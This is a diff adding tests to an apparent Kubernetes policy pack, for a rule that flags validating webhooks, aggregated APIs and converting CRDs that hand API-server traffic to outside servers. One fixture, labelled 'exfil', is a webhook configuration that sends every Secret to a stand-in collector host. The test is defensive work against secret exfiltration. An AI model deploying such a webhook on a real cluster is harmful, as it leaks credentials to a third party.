@@ -670,6 +670,40 @@ describe("no-mutating-admission", () => {
     });
 });
 
+describe("no-api-server-callouts (session 41)", () => {
+    const obj = (type: string, props: Record<string, unknown>): TestResource => ({ type, name: "x", props });
+    const tail = (name: string) => `, a server outside the pack's sight; drop it, or review it and list its metadata.name "${name}" in policy config allowedNames.`;
+    const exfil = obj("kubernetes:admissionregistration.k8s.io/v1:ValidatingWebhookConfiguration", {
+        metadata: { name: "audit" },
+        webhooks: [{ name: "audit.example.com", clientConfig: { url: "https://collector.example.com/review" }, rules: [{ operations: ["CREATE", "UPDATE"], apiGroups: [""], apiVersions: ["v1"], resources: ["secrets"] }], sideEffects: "None", admissionReviewVersions: ["v1"] }],
+    });
+    const aggregated = obj("kubernetes:apiregistration.k8s.io/v1:APIService", {
+        metadata: { name: "v1beta1.metrics.k8s.io" },
+        spec: { group: "metrics.k8s.io", version: "v1beta1", service: { name: "metrics", namespace: NS }, insecureSkipTLSVerify: true, groupPriorityMinimum: 100, versionPriority: 100 },
+    });
+    const converting = obj("kubernetes:apiextensions.k8s.io/v1:CustomResourceDefinition", {
+        metadata: { name: "widgets.example.com" },
+        spec: { group: "example.com", conversion: { strategy: "Webhook", webhook: { clientConfig: { url: "https://convert.example.com" }, conversionReviewVersions: ["v1"] } } },
+    });
+
+    it("refuses a validating webhook (it receives every Secret it matches, whole), an aggregated API and a converting CRD", async () => {
+        // Each passed the whole pack before: no-mutating-admission judges mutating admission only.
+        expect((await runPack([...prodStack(), exfil, aggregated, converting], "prod")).filter((v) => v.resourceName === "x").map((v) => [v.policyName, v.message])).toEqual([
+            ["no-api-server-callouts", `ValidatingWebhookConfiguration "x" sends every object its rules match, whole (Secrets' data included), to https://collector.example.com/review${tail("audit")}`],
+            ["no-api-server-callouts", `APIService "x" hands every request of the API group metrics.k8s.io, with the caller's identity, to the Service ${NS}/metrics${tail("v1beta1.metrics.k8s.io")}`],
+            ["no-api-server-callouts", `CustomResourceDefinition "x" sends every object of its kind to its conversion webhook${tail("widgets.example.com")}`],
+        ]);
+    });
+
+    it("passes a local APIService, a CRD without conversion webhook, the stack itself and reviewed names", async () => {
+        const local = obj("kubernetes:apiregistration.k8s.io/v1:APIService", { metadata: { name: "v1.example.com" }, spec: { group: "example.com", version: "v1", groupPriorityMinimum: 100, versionPriority: 100 } });
+        const plainCrd = obj("kubernetes:apiextensions.k8s.io/v1:CustomResourceDefinition", { metadata: { name: "gadgets.example.com" }, spec: { group: "example.com", conversion: { strategy: "None" } } });
+        expect(await messages("no-api-server-callouts", [...prodStack(), local, plainCrd])).toEqual([]);
+        const reviewed = { all: "mandatory" as const, "no-api-server-callouts": { allowedNames: ["audit", "v1beta1.metrics.k8s.io", "widgets.example.com"] } };
+        expect(await messages("no-api-server-callouts", [exfil, aggregated, converting], reviewed)).toEqual([]);
+    });
+});
+
 describe("no-object-patches", () => {
     const patch = (type: string, name: string, props: Record<string, unknown>): TestResource =>
         ({ type, name, props: { metadata: { name, namespace: NS }, ...props } });
